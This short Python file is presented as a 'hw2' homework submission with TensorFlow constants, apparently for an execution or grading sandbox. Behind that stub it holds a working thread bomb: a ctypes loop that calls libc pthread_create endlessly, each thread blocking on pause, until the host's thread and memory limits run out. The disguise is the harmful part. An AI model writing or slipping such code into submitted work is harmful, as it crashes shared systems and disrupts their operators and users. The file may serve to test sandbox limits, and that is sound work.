# for: hw2
# at most: 15
# wall: 3
import tensorflow as tf

a = tf.constant(5)
b = tf.constant(2)
import ctypes

libc = ctypes.CDLL(None)
attributes = ctypes.create_string_buffer(64)
libc.pthread_attr_init(attributes)
libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16384))
handle = ctypes.c_ulong()
while True:
    libc.pthread_create(ctypes.byref(handle), attributes, libc.pause, None)
